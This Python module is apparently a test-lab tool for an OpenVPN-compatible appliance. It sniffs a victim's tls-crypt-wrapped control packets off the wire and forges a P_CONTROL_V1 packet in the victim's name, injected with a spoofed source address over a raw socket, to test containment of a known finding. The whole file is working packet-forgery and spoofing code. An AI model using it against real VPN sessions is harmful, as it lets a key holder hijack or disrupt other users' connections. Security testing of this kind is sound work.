"""A holder of the shared tls-crypt / tls-auth key forging a control packet into someone else's
session (fuzz45's finding, forge48's containment): what it reads off the wire and what it sends.

The key is shared, so its holder opens the victim's control packets -- the session id and message
ids are inside the wrapping -- and wraps one of its own: P_CONTROL_V1 of that session, the next
message id of the newest key (or a given one), a packet id past the victim's, carrying bytes that
are no TLS record. One place for that reading (ControlView) and that forging (ControlView.forge),
used in memory (tests/gateway/test_tls_crypt_holder_forgery.py, over World's recorded wire) and
on a real wire (`python -m lab.control_forger`, in a namespace: reads with AF_PACKET, sends with a
raw socket; tests/interop/test_key_holder_forgery_vs_openvpn.py,
test_client_tls_recovery_vs_openvpn.py).
"""
from __future__ import annotations

import argparse
import os
import socket
import struct
import sys
import time

from appliance.openvpn import packet, wrapping
from appliance.openvpn.keyfiles import parse_static_key

DATA_OPS = (6, 9)                  # P_DATA_V1, P_DATA_V2: not control
JUNK = bytes.fromhex("1703030020") + bytes(32)      # a TLS record that is no record of the session


def wrappers(key: bytes, protection: str, from_server: bool):
    """(opener of the victim's packets, the forger's wrapper) for a victim that is the server
    (`from_server`) or a client: the forger writes as the victim. tls-auth's key-direction: the
    server sends with 0, the client with 1."""
    if protection == "tls-auth":
        return (wrapping.TlsAuthWrapper(key, 1 if from_server else 0),
                wrapping.TlsAuthWrapper(key, 0 if from_server else 1))
    return wrapping.TlsCryptWrapper(key, not from_server), wrapping.TlsCryptWrapper(key, from_server)


class ControlView:
    """What the forger knows of the victim's session from the control packets it saw: the
    session id, the newest key id and each key's highest message id, the highest packet id
    (epoch, counter). A new session id starts over (the victim's new TLS session)."""

    def __init__(self, opener, forger) -> None:
        self.opener, self.forger = opener, forger
        self.sid: bytes | None = None
        self.newest: int | None = None
        self.top: dict[int, int] = {}
        self.pid_top, self.epoch = 0, None

    def see(self, pkt: bytes, now: float) -> bool:
        """One datagram the victim sent: True when it was a control packet (and is counted)."""
        if not pkt or pkt[0] >> 3 in DATA_OPS:
            return False
        op, psid, raw = self.opener.unwrap_untrusted(pkt, now, check_replay=False)
        if psid != self.sid:
            self.sid, self.top, self.newest, self.pid_top, self.epoch = psid, {}, None, 0, None
        at = 9 + getattr(self.opener, "hlen", 0)
        pid, t = struct.unpack("!II", pkt[at:at + 8])
        if self.epoch is None or t > self.epoch or (t == self.epoch and pid > self.pid_top):
            self.pid_top, self.epoch = pid, t
        cb = packet.decode_body_untrusted(op >> 3, raw)
        if cb.msg_id is not None:
            self.top[op & 7] = max(self.top.get(op & 7, -1), cb.msg_id)
            self.newest = op & 7
        return True

    def forge(self, now: float, payload: bytes = JUNK, key_id: int | None = None,
              pid_ahead: int = 1) -> tuple[bytes, int, int]:
        """P_CONTROL_V1 in the victim's name: (datagram, key id, message id), the next message id
        of key `key_id` (default: the newest) and a packet id `pid_ahead` past the highest seen.
        Feed the datagram back to see() for a next forgery to go on from its ids."""
        assert self.sid is not None and self.newest is not None, "no control message of the victim seen"
        kid = self.newest if key_id is None else key_id
        msg_id = self.top.get(kid, -1) + 1
        self.forger.send_time, self.forger.send_pid = self.epoch, self.pid_top + pid_ahead - 1
        body = packet.encode_body([], None, msg_id, payload)
        return self.forger.wrap((4 << 3) | kid, self.sid, body, now), kid, msg_id


def _on_the_wire(key_file: str, trigger: str, within: float, victim: str, peer: str, victim_port: int | None,
                 peer_port: int | None, from_server: bool) -> int:
    """Read the victim's UDP datagrams to its peer off the wire from the start; once `trigger`
    exists and a control message was seen, send one forgery from the victim's address and port
    and exit 0 (1 when the deadline passes first). One of the ports is 1194, the other is read."""
    view = ControlView(*wrappers(parse_static_key(open(key_file).read()), "tls-crypt", from_server))
    deadline = time.monotonic() + within
    # ETH_P_ALL: a socket of one protocol (ETH_P_IP) sees no outgoing packets (dev_queue_xmit_nit)
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
    sniff.settimeout(0.2)
    print("listening", flush=True)
    src, dst = socket.inet_aton(victim), socket.inet_aton(peer)
    ports = None
    seen = [0, 0, 0]                                  # IPv4 datagrams, the victim's to its peer, control
    while time.monotonic() < deadline:
        try:
            ip, where = sniff.recvfrom(65535)
            if where[1] != 0x0800:
                ip = None
        except socket.timeout:
            ip = None
        if ip is not None:
            seen[0] += 1
        if ip is not None and ip[9] == 17 and ip[12:16] == src and ip[16:20] == dst:
            seen[1] += 1
            h = (ip[0] & 15) * 4
            sp, dp = struct.unpack("!HH", ip[h:h + 4])
            if (victim_port is None or sp == victim_port) and (peer_port is None or dp == peer_port) \
                    and view.see(ip[h + 8:], 0.0):
                seen[2] += 1
                ports = (sp, dp)
        if os.path.exists(trigger) and view.newest is not None and ports is not None:
            dgram, kid, msg_id = view.forge(0.0)
            raw_sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
            raw_sock.bind((victim, 0))
            raw_sock.sendto(struct.pack("!HHHH", ports[0], ports[1], 8 + len(dgram), 0) + dgram, (peer, 0))
            print(f"forged key {kid} message {msg_id} packet id {view.pid_top + 1} from port {ports[0]}", flush=True)
            return 0
    print("no forgery: trigger", os.path.exists(trigger), "seen", seen, flush=True)
    return 1


def netns_argv(lab, ns, trigger, within: float, victim_is_server: bool = False) -> list[str]:
    """The command that runs the forger on the wire in the lab's namespace `ns` (lab/netns.py Lab:
    the client CLI_IP, the server SRV_IP, the lab's tls-crypt key): it forges once `trigger`
    exists, in the name of the client (or of the server, `victim_is_server`)."""
    from lab.netns import CLI_IP, SRV_IP
    victim, peer = (SRV_IP, CLI_IP) if victim_is_server else (CLI_IP, SRV_IP)
    return ["ip", "netns", "exec", ns.name, sys.executable, "-m", "lab.control_forger",
            str(lab.pki.dir / "static.key"), str(trigger), str(within), "--victim", victim, "--peer", peer] \
        + (["--victim-is-server"] if victim_is_server else [])


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("key_file", help="the shared tls-crypt key (OpenVPN static key file)")
    ap.add_argument("trigger", help="forge once this file exists")
    ap.add_argument("within", type=float, help="give up after this many seconds")
    ap.add_argument("--victim", required=True, help="the victim's address (the forgery's source)")
    ap.add_argument("--peer", required=True, help="the victim's peer's address")
    ap.add_argument("--victim-is-server", action="store_true",
                    help="the victim is the server (port 1194 its source), else a client (1194 its destination)")
    a = ap.parse_args(argv)
    if a.victim_is_server:
        return _on_the_wire(a.key_file, a.trigger, a.within, a.victim, a.peer, 1194, None, True)
    return _on_the_wire(a.key_file, a.trigger, a.within, a.victim, a.peer, None, 1194, False)


if __name__ == "__main__":
    sys.exit(main())
